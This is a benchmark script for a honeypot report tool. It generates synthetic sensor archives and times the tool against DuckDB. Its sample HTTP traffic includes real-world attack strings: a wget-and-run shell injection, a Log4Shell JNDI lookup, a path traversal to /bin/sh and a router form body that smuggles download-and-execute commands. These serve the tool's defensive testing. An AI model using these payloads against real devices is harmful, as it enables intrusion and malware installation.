// Benchmark of `synbait report` on a realistic archive set: 1,000,000 records (SYNBAIT_BENCH_REPORT_RECORDS) in
// hourly files of two sensors, written as multi-member gzip like the archive writer's flushed blocks, with
// payloads of the usual kinds and sizes (HTTP probes and exploits, TLS ClientHellos, SSH, RDP, SMB, SIP, DNS,
// NTP) and labels + facts from the real classifier. The reference, in the same run: DuckDB's read_json over the
// same .jsonl.gz files with the equivalent group-by. Both as whole processes (start-up included: that is what a
// user waits for), interleaved, best of SYNBAIT_BENCH_REPORT_RUNS (3); then in-process figures beside them.
// Returns a Markdown section for BENCHMARKS.md.
//   node --import tsx test/bench/report-bench.ts

import { execFileSync, spawn } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { mkdir, mkdtemp, readdir, rm, writeFile } from 'node:fs/promises';
import { availableParallelism, cpus, tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { Writable } from 'node:stream';
import { fileURLToPath, pathToFileURL } from 'node:url';
import { gunzipSync, gzipSync } from 'node:zlib';
import { createClassifier } from '../../src/classify/index.ts';
import type { FlowRecord, FlowState } from '../../src/record/flow-record.ts';
import { recordToLine } from '../../src/record/ndjson.ts';
import { runReport } from '../../src/report/cli.ts';
import { RecordScanner, emptyScanOutput } from '../../src/report/record-scan.ts';
import { viewOfRecord } from '../../src/report/record-view.ts';

const REPO = fileURLToPath(new URL('../..', import.meta.url));

/** Deterministic PRNG (mulberry32), so every run benchmarks the same data. */
function rng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const POPULAR_PORTS = [22, 23, 80, 443, 445, 3389, 8080, 5060, 6379, 2375, 8443, 9200, 1433, 3306, 5900, 7547, 37215, 52869, 81, 8000, 2323, 5555, 111, 21, 25];
const AGENTS = [
  'Mozilla/5.0 zgrab/0.x',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36',
  'curl/7.88.1', 'python-requests/2.31.0', 'Go-http-client/1.1', 'Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15',
  'Hello, World', 'Wget/1.21.3', 'masscan/1.3 (https://github.com/robertdavidgraham/masscan)',
];
const PATHS = ['/', '/', '/', '/.env', '/wp-login.php', '/admin', '/robots.txt', '/favicon.ico', '/.git/config', '/actuator/health',
  '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', '/cgi-bin/luci/;stok=/locale', '/boaform/admin/formLogin',
  '/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP21',
  '/shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.7/jaws;sh+/tmp/jaws', '/${jndi:ldap://192.0.2.7:1389/Exploit}',
  '/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh', '/HNAP1/', '/GponForm/diag_Form?images/', '/solr/admin/info/system'];

function httpRequest(r: () => number, host: string): Buffer {
  const path = PATHS[Math.floor(r() * PATHS.length)]!;
  const ua = AGENTS[Math.floor(r() * AGENTS.length)]!;
  if (r() < 0.1) {
    const body = 'remote_submit_Flag=1&remote_syslog_Flag=1&RemoteSyslogSupported=1&LogFlag=0&remote_host=%3bcd+/tmp;wget+http://192.0.2.7/bins.sh;chmod+777+*;sh+bins.sh%3b%23&remoteSubmit=Save';
    return Buffer.from(`POST /boaform/admin/formPing HTTP/1.1\r\nHost: ${host}\r\nUser-Agent: ${ua}\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: ${body.length}\r\n\r\n${body}`);
  }
  return Buffer.from(`GET ${path} HTTP/1.1\r\nHost: ${host}\r\nUser-Agent: ${ua}\r\nAccept: */*\r\nAccept-Encoding: gzip\r\nConnection: close\r\n\r\n`);
}

function randomBytes(r: () => number, n: number): Buffer {
  const b = Buffer.allocUnsafe(n);
  for (let i = 0; i < n; i++) b[i] = Math.floor(r() * 256);
  return b;
}

function clientHello(r: () => number): Buffer {
  const body = randomBytes(r, 200 + Math.floor(r() * 320));
  const hs = Buffer.concat([Buffer.from([0x01, 0x00, body.length >> 8, body.length & 0xff]), body]);
  return Buffer.concat([Buffer.from([0x16, 0x03, 0x01, hs.length >> 8, hs.length & 0xff]), hs]);
}

function sipOptions(r: () => number, host: string): Buffer {
  const tag = Math.floor(r() * 1e9).toString(16);
  const ua = r() < 0.6 ? 'friendly-scanner' : 'sipcli/v1.8';
  return Buffer.from(`OPTIONS sip:100@${host} SIP/2.0\r\nVia: SIP/2.0/UDP 192.0.2.9:5070;branch=z9hG4bK-${tag};rport\r\nMax-Forwards: 70\r\n` +
    `To: "sipvicious"<sip:100@1.1.1.1>\r\nFrom: "sipvicious"<sip:100@1.1.1.1>;tag=${tag}\r\nUser-Agent: ${ua}\r\nCall-ID: ${tag}${tag}\r\n` +
    `Contact: sip:100@192.0.2.9:5070\r\nCSeq: 1 OPTIONS\r\nAccept: application/sdp\r\nContent-Length: 0\r\n\r\n`);
}

function dnsQuery(r: () => number): Buffer {
  const id = Math.floor(r() * 65536);
  const name = r() < 0.5 ? ['version', 'bind'] : ['sl'];
  const q = Buffer.concat([...name.map((l) => Buffer.concat([Buffer.from([l.length]), Buffer.from(l)])), Buffer.from([0])]);
  return Buffer.concat([Buffer.from([id >> 8, id & 0xff, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0]), q, Buffer.from(name.length === 2 ? [0, 16, 0, 3] : [0, 255, 0, 1])]);
}

type Kind = { state: FlowState; proto: 'tcp' | 'udp'; port: number; payload: Buffer };

function flowKind(r: () => number, host: string): Kind {
  const x = r();
  const anyPort = () => (r() < 0.5 ? POPULAR_PORTS[Math.floor(r() * POPULAR_PORTS.length)]! : 1 + Math.floor(r() * 65535));
  if (x < 0.55) return { state: 'syn', proto: 'tcp', port: anyPort(), payload: Buffer.alloc(0) };
  if (x < 0.85) {
    const y = r();
    if (y < 0.35) return { state: 'acked', proto: 'tcp', port: anyPort(), payload: Buffer.alloc(0) };
    if (y < 0.7) return { state: 'acked', proto: 'tcp', port: [80, 8080, 81, 8000, 7547, 37215, 52869, 443][Math.floor(r() * 8)]!, payload: httpRequest(r, host) };
    if (y < 0.8) return { state: 'acked', proto: 'tcp', port: 443, payload: clientHello(r) };
    if (y < 0.9) return { state: 'acked', proto: 'tcp', port: 22, payload: Buffer.concat([Buffer.from(r() < 0.5 ? 'SSH-2.0-Go\r\n' : 'SSH-2.0-libssh2_1.9.0\r\n'), randomBytes(r, 600 + Math.floor(r() * 800))]) };
    if (y < 0.95) return { state: 'acked', proto: 'tcp', port: 3389, payload: Buffer.from('\x03\x00\x00\x2b\x26\xe0\x00\x00\x00\x00\x00Cookie: mstshash=Administr\r\n\x01\x00\x08\x00\x03\x00\x00\x00', 'latin1') };
    return { state: 'acked', proto: 'tcp', port: 445, payload: Buffer.concat([Buffer.from([0, 0, 0, 0x85, 0xff, 0x53, 0x4d, 0x42, 0x72]), randomBytes(r, 128)]) };
  }
  const z = r();
  if (z < 0.5) return { state: 'udp', proto: 'udp', port: 5060, payload: sipOptions(r, host) };
  if (z < 0.8) return { state: 'udp', proto: 'udp', port: 53, payload: dnsQuery(r) };
  if (z < 0.9) return { state: 'udp', proto: 'udp', port: 123, payload: Buffer.from([0x17, 0x00, 0x03, 0x2a, 0, 0, 0, 0]) };
  return { state: 'udp', proto: 'udp', port: 1 + Math.floor(r() * 65535), payload: randomBytes(r, 8 + Math.floor(r() * 64)) };
}

export interface ArchiveSet {
  readonly dir: string;
  readonly records: number;
  readonly files: number;
  readonly jsonBytes: number;
  readonly gzipBytes: number;
  readonly labelled: number;
}

/** Writes `records` records as hourly multi-member gzip archives of two sensors into dir. */
export async function generateArchiveSet(dir: string, records: number, seed = 1): Promise<ArchiveSet> {
  const r = rng(seed);
  const sensors = ['sensor-a', 'sensor-b'];
  const perFile = 125_000;
  const files = Math.max(1, Math.ceil(records / perFile));
  const SOURCES = 300_000;
  const sourceIp = (i: number) => `${11 + (i >>> 16)}.${(i >>> 8) & 0xff}.${i & 0xff}.${(i * 7) & 0xff}`;
  const start = Date.parse('2026-11-23T00:00:00Z');
  let jsonBytes = 0, gzipBytes = 0, labelled = 0, left = records;
  const classifiers = new Map(sensors.map((s) => [s, createClassifier()]));
  for (let f = 0; f < files; f++) {
    const sensor = sensors[f % sensors.length]!;
    const classifier = classifiers.get(sensor)!;
    const fileStart = start + Math.floor(f / sensors.length) * 3_600_000;
    const n = Math.min(perFile, left);
    left -= n;
    const host = sensor === 'sensor-a' ? '198.51.100.10' : '198.51.100.20';
    const recs: FlowRecord[] = [];
    for (let i = 0; i < n; i++) {
      const ts = fileStart + Math.floor((i / n) * 3_600_000) + Math.floor(r() * 200);
      const k = flowKind(r, host);
      // heavy-tailed sources: a few scanners send most flows
      const src = sourceIp(Math.floor(SOURCES * r() ** 3));
      const srcPort = 1024 + Math.floor(r() * 64000);
      const syn = k.proto === 'tcp'
        ? { ttl: r() < 0.5 ? 241 : 52, window: r() < 0.5 ? 1024 : 64240, ip_id: Math.floor(r() * 65536), options: r() < 0.5 ? 'mss:1460' : 'mss:1460,sok,ts,nop,ws:7', syn_count: 1 }
        : undefined;
      const res = classifier.classify({
        proto: k.proto, state: k.state, ip_version: 4, src_ip: src, src_port: srcPort, dst_ip: host, dst_port: k.port,
        payload: k.payload, ts_ms: ts, ...(syn ? { syn } : {}),
      });
      if (res.labels.length > 0) labelled++;
      const dur = k.state === 'syn' ? 0 : Math.floor(r() * 4000);
      recs.push({
        event: 'flow', schema: 1, ts: new Date(ts).toISOString(), end_ts: new Date(ts + dur).toISOString(), sensor,
        flow_id: Math.floor(r() * 2 ** 40).toString(16).padStart(10, '0'), proto: k.proto, ip_version: 4, src_ip: src,
        src_port: srcPort, dst_ip: host, dst_port: k.port, state: k.state, payload: k.payload.toString('base64'),
        payload_len: k.payload.length, truncated: false, packets: k.state === 'syn' ? 1 : 3 + Math.floor(r() * 6),
        segments: k.payload.length > 0 ? 1 : 0, end_reason: k.state === 'syn' ? 'timeout' : r() < 0.7 ? 'fin' : 'timeout',
        ...(syn ? { syn } : {}), labels: res.labels, ...(Object.keys(res.facts).length > 0 ? { facts: res.facts } : {}),
      });
    }
    // Records are written when flows end, not when they start.
    recs.sort((a, b) => Date.parse(a.end_ts) - Date.parse(b.end_ts));
    const members: Buffer[] = [];
    for (let i = 0; i < recs.length; i += 2000) {
      const text = recs.slice(i, i + 2000).map(recordToLine).join('');
      jsonBytes += Buffer.byteLength(text);
      members.push(gzipSync(text));
    }
    const data = Buffer.concat(members);
    gzipBytes += data.length;
    const stamp = new Date(fileStart).toISOString().replace(/[-:]/g, '').slice(0, 15) + 'Z';
    await writeFile(join(dir, `${sensor}-${stamp}-${f.toString(16).padStart(6, '0')}.jsonl.gz`), data);
  }
  return { dir, records, files, jsonBytes, gzipBytes, labelled };
}

class NullWritable extends Writable {
  override _write(_chunk: unknown, _enc: BufferEncoding, cb: (e?: Error | null) => void): void {
    cb();
  }
}

interface Timing {
  readonly wallS: number;
  readonly cpuS: number;
  readonly exit: number;
  readonly output: string;
  /** Reader threads the run used (in-process runs). */
  readonly threads?: number;
}

/** CPU seconds of this process's waited-for children (Linux /proc; NaN elsewhere). */
function childrenCpuS(): number {
  try {
    const stat = readFileSync('/proc/self/stat', 'latin1');
    const f = stat.slice(stat.lastIndexOf(')') + 2).split(' ');
    return (Number(f[13]) + Number(f[14])) / CLOCK_TICKS;
  } catch {
    return NaN;
  }
}
const CLOCK_TICKS = (() => {
  try {
    return Number(execFileSync('getconf', ['CLK_TCK']).toString()) || 100;
  } catch {
    return 100;
  }
})();

/** A whole process: wall time from spawn to exit, its CPU time (all threads), its stdout. */
function timeProcess(command: string, args: readonly string[], env: NodeJS.ProcessEnv = process.env): Promise<Timing> {
  return new Promise((resolve, reject) => {
    const c0 = childrenCpuS();
    const t0 = performance.now();
    const child = spawn(command, args, { cwd: REPO, env, stdio: ['ignore', 'pipe', 'pipe'] });
    const out: Buffer[] = [], err: Buffer[] = [];
    child.stdout.on('data', (b: Buffer) => out.push(b));
    child.stderr.on('data', (b: Buffer) => err.push(b));
    child.once('error', reject);
    child.once('close', (code) => {
      const wallS = (performance.now() - t0) / 1000;
      if (code !== 0) reject(new Error(`${args.join(' ')} exited ${code}: ${Buffer.concat(err).toString().slice(0, 2000)}`));
      else resolve({ wallS, cpuS: childrenCpuS() - c0, exit: 0, output: Buffer.concat(out).toString() });
    });
  });
}

async function timeReport(args: string[]): Promise<Timing> {
  let output = '';
  let threads = 1;
  const stdout = new Writable({
    write(chunk, _enc, cb) {
      output += String(chunk);
      cb();
    },
  });
  const c0 = process.cpuUsage();
  const t0 = performance.now();
  const exit = await runReport(args, { stdout, stderr: new NullWritable(), env: {} }, { onThreads: (n) => (threads = n) });
  const wallS = (performance.now() - t0) / 1000;
  const c = process.cpuUsage(c0);
  return { wallS, cpuS: (c.user + c.system) / 1e6, exit, output, threads };
}

const fmt = (n: number) => Math.round(n).toString().replace(/\B(?=(\d{3})+(?!\d))/g, ',');
const mib = (n: number) => (n / 1048576).toFixed(0);

/**
 * DuckDB's group-by over the same files, equivalent to the report's tables: threats (labels unnested, by rule),
 * flow states, top ports (proto, port), top sources, records per UTC day. Run as `node -e` (no tsx), printing
 * its results as JSON for the cross-check.
 */
const DUCKDB_SCRIPT = `
import { DuckDBInstance } from '@duckdb/node-api';
const [dir, top] = [process.env.BENCH_DIR, Number(process.env.BENCH_TOP)];
const db = await DuckDBInstance.create(':memory:');
const c = await db.connect();
const glob = (dir + '/*.jsonl.gz').replaceAll("'", "''");
await c.run(\`CREATE TEMP TABLE r AS SELECT * FROM read_json('\${glob}', format = 'newline_delimited', columns = {
  ts: 'TIMESTAMP', src_ip: 'VARCHAR', dst_port: 'INTEGER', proto: 'VARCHAR', state: 'VARCHAR',
  labels: 'STRUCT(id VARCHAR, name VARCHAR)[]' })\`);
const rows = async (q) => (await c.runAndReadAll(q)).getRowObjectsJson();
const out = {
  records: (await rows('SELECT count(*) AS n FROM r'))[0].n,
  states: await rows('SELECT state, count(*) AS n FROM r GROUP BY state ORDER BY state'),
  threats: await rows('SELECT l.id AS id, l.name AS name, count(*) AS n FROM (SELECT unnest(labels) AS l FROM r) GROUP BY ALL ORDER BY n DESC, name, id'),
  ports: await rows(\`SELECT proto, dst_port AS port, count(*) AS n FROM r GROUP BY ALL ORDER BY n DESC, port, proto LIMIT \${top}\`),
  sources: await rows(\`SELECT src_ip, count(*) AS n FROM r GROUP BY ALL ORDER BY n DESC, src_ip LIMIT \${top}\`),
  days: await rows("SELECT strftime(ts, '%Y-%m-%d') AS day, count(*) AS n FROM r GROUP BY ALL ORDER BY day"),
};
process.stdout.write(JSON.stringify(out));
`;

interface ReportJson {
  records: number;
  states: Record<string, number>;
  threats: { id: string | null; name: string; count: number }[];
  ports: { proto: string; port: number; count: number }[];
  sources: { entries: { src_ip: string; count: number; error: number }[] };
  days: { day: string; count: number }[];
}

/** DuckDB and synbait must agree (sources: DuckDB's exact count within synbait's stated error). */
function crossCheck(ours: ReportJson, duck: Record<string, { [k: string]: string | number }[] | number>): void {
  const n = (v: unknown) => Number(v);
  const fail = (what: string) => { throw new Error(`DuckDB and synbait disagree on ${what}`); };
  if (n(duck.records) !== ours.records) fail('the record count');
  for (const s of duck.states as { state: string; n: number }[]) if (ours.states[s.state] !== n(s.n)) fail(`state ${s.state}`);
  const threats = new Map(ours.threats.map((t) => [`${t.id}\u0000${t.name}`, t.count]));
  for (const t of duck.threats as { id: string; name: string; n: number }[]) if (threats.get(`${t.id}\u0000${t.name}`) !== n(t.n)) fail(`threat ${t.name}`);
  (duck.ports as { proto: string; port: number; n: number }[]).forEach((p, i) => {
    const o = ours.ports[i];
    if (!o || o.proto !== p.proto || o.port !== n(p.port) || o.count !== n(p.n)) fail(`port row ${i + 1}`);
  });
  const days = new Map(ours.days.map((d) => [d.day, d.count]));
  for (const d of duck.days as { day: string; n: number }[]) if (days.get(d.day) !== n(d.n)) fail(`day ${d.day}`);
  const exact = new Map((duck.sources as { src_ip: string; n: number }[]).map((s) => [s.src_ip, n(s.n)]));
  for (const e of ours.sources.entries) {
    const c = exact.get(e.src_ip);
    if (c !== undefined && (c > e.count || c < e.count - e.error)) fail(`source ${e.src_ip}`);
  }
}

/** The report's JSON without what differs from run to run. */
function stable(json: string): string {
  const o = JSON.parse(json) as Record<string, unknown>;
  delete o.generated_at;
  delete o.elapsed_ms;
  return JSON.stringify(o);
}

/**
 * The plainest reader of the same files, in this process: a gunzip stream split into lines with JSON.parse on
 * each, counting nothing.
 */
async function plainReader(dir: string): Promise<Timing> {
  const { readdirSync, createReadStream } = await import('node:fs');
  const { createGunzip } = await import('node:zlib');
  const c0 = process.cpuUsage();
  const t0 = performance.now();
  let n = 0;
  for (const f of readdirSync(dir).filter((x) => x.endsWith('.jsonl.gz')).sort()) {
    let rest = '';
    for await (const chunk of createReadStream(join(dir, f), { highWaterMark: 1 << 20 }).pipe(createGunzip({ chunkSize: 1 << 20 }))) {
      const text = rest + (chunk as Buffer).toString('utf8');
      const parts = text.split('\n');
      rest = parts.pop()!;
      for (const l of parts) if ((JSON.parse(l) as { event?: string }).event === 'flow') n++;
    }
  }
  const wallS = (performance.now() - t0) / 1000;
  const c = process.cpuUsage(c0);
  return { wallS, cpuS: (c.user + c.system) / 1e6, exit: 0, output: String(n) };
}

/** Lines of one archive decoded by the byte scanner vs JSON.parse + the reference check (in memory, no gunzip). */
function decodeRates(gz: Buffer): { fast: number; slow: number; lines: number } {
  const buf = gunzipSync(gz);
  const scanner = new RecordScanner();
  const out = emptyScanOutput();
  const pass = (fn: (s: number, e: number) => unknown) => {
    let lines = 0;
    const c0 = process.cpuUsage();
    for (let s = 0, i = buf.indexOf(10); i !== -1; s = i + 1, i = buf.indexOf(10, s)) {
      if (fn(s, i)) lines++;
    }
    const c = process.cpuUsage(c0);
    return { lines, rate: lines / ((c.user + c.system) / 1e6) };
  };
  pass((s, e) => scanner.scan(buf, s, e, out)); // warm-up
  const fast = pass((s, e) => scanner.scan(buf, s, e, out));
  const slow = pass((s, e) => viewOfRecord(JSON.parse(buf.toString('utf8', s, e))));
  return { fast: fast.rate, slow: slow.rate, lines: fast.lines };
}

const best = (ts: readonly Timing[]): Timing => ts.reduce((a, b) => (b.wallS < a.wallS ? b : a));

export async function runReportBench(): Promise<string> {
  const records = Number(process.env.SYNBAIT_BENCH_REPORT_RECORDS ?? 1_000_000);
  const runs = Number(process.env.SYNBAIT_BENCH_REPORT_RUNS ?? 3);
  // SYNBAIT_BENCH_REPORT_DIR: a folder to keep the set in between runs (made on the first, reused after)
  const keep = process.env.SYNBAIT_BENCH_REPORT_DIR;
  const dir = keep ?? (await mkdtemp(join(tmpdir(), 'synbait-report-bench-')));
  try {
    const g0 = performance.now();
    const set = await loadOrGenerate(dir, records, keep !== undefined);
    const genS = (performance.now() - g0) / 1000;

    // Whole processes, interleaved so that both meet the same machine; the first of each also warms the disk
    // cache and tsx's compile cache. The executable as a user runs it (its #! line sets node's flags), with the
    // node of this run first on PATH.
    const bin = join(REPO, 'src/bin.mjs');
    const path = { ...process.env, PATH: `${dirname(process.execPath)}:${process.env.PATH ?? ''}` };
    const duck = ['--input-type=module', '-e', DUCKDB_SCRIPT];
    const env = { ...path, BENCH_DIR: dir, BENCH_TOP: '20' };
    // SYNBAIT_BENCH_BASE: a checkout of an earlier revision, timed the same way in the same rounds
    const baseDir = process.env.SYNBAIT_BENCH_BASE;
    const procs: Timing[] = [], ducks: Timing[] = [], bases: Timing[] = [];
    for (let r = 0; r < runs; r++) {
      procs.push(await timeProcess(bin, ['report', dir, '--format', 'json'], path));
      ducks.push(await timeProcess(process.execPath, duck, env));
      if (baseDir) bases.push(await timeProcess(join(baseDir, 'src/bin.mjs'), ['report', dir, '--format', 'json'], path));
    }
    const proc = best(procs), duckdb = best(ducks);
    const base = bases.length > 0 ? { timing: best(bases), rev: gitRev(baseDir!) } : undefined;
    const ours = JSON.parse(proc.output) as ReportJson;
    if (ours.records !== records) throw new Error(`report counted ${ours.records} records, expected ${records}`);
    crossCheck(ours, JSON.parse(duckdb.output) as Record<string, never>);

    // In this process: with the reader threads the report picks itself, and in the main thread alone; their
    // reports must be the same, and the same as the whole process's.
    const threaded = best([await timeReport([dir, '--format', 'json']), await timeReport([dir, '--format', 'json'])]);
    const single = best([await timeReport([dir, '--format', 'json', '--threads', '1']), await timeReport([dir, '--format', 'json', '--threads', '1'])]);
    if (stable(threaded.output) !== stable(single.output) || stable(proc.output) !== stable(single.output)) {
      throw new Error('the report differs between reader threads and the main thread alone');
    }
    const relabel = best([await timeReport([dir, '--format', 'json', '--relabel'])]);
    const reference = await plainReader(dir);
    if (Number(reference.output) !== records) throw new Error(`plain reader saw ${reference.output} records`);
    const first = (await readdir(dir)).filter((f) => f.endsWith('.jsonl.gz')).sort()[0]!;
    const dec = decodeRates(readFileSync(join(dir, first)));
    return section({ records, set, genS, proc, duckdb, threaded, single, relabel, reference, dec, runs, base });
  } finally {
    if (keep === undefined) await rm(dir, { recursive: true, force: true });
  }
}

/** The set in `dir`: generated, or (kept) read back from its description file. */
async function loadOrGenerate(dir: string, records: number, kept: boolean): Promise<ArchiveSet> {
  const info = join(dir, 'set.json');
  if (kept) {
    try {
      const set = JSON.parse(readFileSync(info, 'utf8')) as ArchiveSet;
      if (set.records === records) return { ...set, dir };
    } catch {
      // not made yet
    }
    await mkdir(dir, { recursive: true });
    for (const f of await readdir(dir)) await rm(join(dir, f), { force: true });
  }
  const set = await generateArchiveSet(dir, records);
  if (kept) await writeFile(info, JSON.stringify(set));
  return set;
}

interface Measured {
  readonly records: number;
  readonly set: ArchiveSet;
  readonly genS: number;
  readonly runs: number;
  readonly proc: Timing;
  readonly duckdb: Timing;
  readonly threaded: Timing;
  readonly single: Timing;
  readonly relabel: Timing;
  readonly reference: Timing;
  readonly dec: { fast: number; slow: number; lines: number };
  readonly base: { readonly timing: Timing; readonly rev: string } | undefined;
}

function gitRev(dir: string): string {
  try {
    return execFileSync('git', ['-C', dir, 'rev-parse', '--short', 'HEAD'], { encoding: 'utf8' }).trim();
  } catch {
    return dir;
  }
}

function section(m: Measured): string {
  const { records, set } = m;
  const row = (name: string, t: Timing) =>
    `| ${name} | ${fmt(records / t.wallS)} | ${fmt(records / t.cpuS)} | ${t.wallS.toFixed(2)} s | ${t.cpuS.toFixed(2)} s |`;
  const ratio = m.duckdb.wallS / m.proc.wallS;
  return [
    '## Report (`synbait report`)',
    '',
    `Archive set: ${fmt(records)} records in ${set.files} hourly files of 2 sensors, ${mib(set.jsonBytes)} MiB of JSON Lines ` +
      `(${fmt(set.jsonBytes / records)} bytes per record), ${mib(set.gzipBytes)} MiB gzip written as 2,000-record members; ` +
      `55% SYN-only, 30% ACKed (HTTP, TLS, SSH, RDP, SMB or no data), 15% UDP (SIP, DNS, NTP); ` +
      `${(100 * set.labelled / records).toFixed(1)}% labelled by the built-in rules; sources heavy-tailed over 300,000 addresses. ` +
      `Generated in ${m.genS.toFixed(1)} s by \`test/bench/report-bench.ts\`.`,
      '',
    `Node ${process.version}, ${availableParallelism()} × ${cpus()[0]?.model ?? 'unknown CPU'}. Local files. Whole processes: ` +
      `\`synbait report DIR --format json\` (the src/bin.mjs executable) against DuckDB ${duckdbVersion()} (\`@duckdb/node-api\`, a plain \`node\` ` +
      'process: `read_json` over the same `*.jsonl.gz` into a table, then the report\'s group-bys: threats by rule, flow states, ' +
      'top 20 ports, top 20 sources, records per day), wall time from spawn to exit, CPU time of all threads, ' +
      `interleaved, best of ${m.runs}. DuckDB's results are checked against the report's (sources: within the stated error); ` +
      'the report\'s JSON is the same with reader threads, without them and as a whole process.',
    '',
    '| Run | Records/s (wall) | Records per CPU-second | Wall | CPU |',
    '| --- | ---: | ---: | ---: | ---: |',
    row('`synbait report --format json`, whole process', m.proc),
    row('DuckDB group-by, whole process', m.duckdb),
    ...(m.base ? [row(`\`synbait report\` of revision ${m.base.rev} (SYNBAIT_BENCH_BASE), whole process`, m.base.timing)] : []),
    row(`in-process, ${m.threaded.threads} reader thread${m.threaded.threads === 1 ? '' : 's'}`, m.threaded),
    row('stored labels', m.single),
    row('`--relabel` (decode payloads, built-in rules)', m.relabel),
    row('reference: gunzip + split + `JSON.parse` per line, nothing counted', m.reference),
    '',
    `Whole process: synbait at ${ratio.toFixed(2)}× DuckDB's rate (records/s, wall)` +
      (m.base ? `; revision ${m.base.rev} at ${(m.duckdb.wallS / m.base.timing.wallS).toFixed(2)}×. ` : '. ') +
      '"stored labels" is the report ' +
      'with `--threads 1` in-process: the main thread reads (gunzip on a libuv thread beside it), so its records per ' +
      `CPU-second are the one-core figure, ${(m.reference.cpuS / m.single.cpuS).toFixed(2)}× the reference's.`,
    '',
    `Line decoding alone (${fmt(m.dec.lines)} lines of one file, already in memory, per CPU-second): the byte scanner ` +
      `${fmt(m.dec.fast)} lines/s, JSON.parse + the reference check ${fmt(m.dec.slow)} lines/s.`,
    '',
  ].join('\n');
}

function duckdbVersion(): string {
  try {
    const pkg = JSON.parse(readFileSync(join(REPO, 'node_modules/@duckdb/node-api/package.json'), 'utf8')) as { version: string };
    return pkg.version;
  } catch {
    return '';
  }
}

if (process.argv[1] && import.meta.url === pathToFileURL(process.argv[1]).href) {
  process.stdout.write(await runReportBench());
}
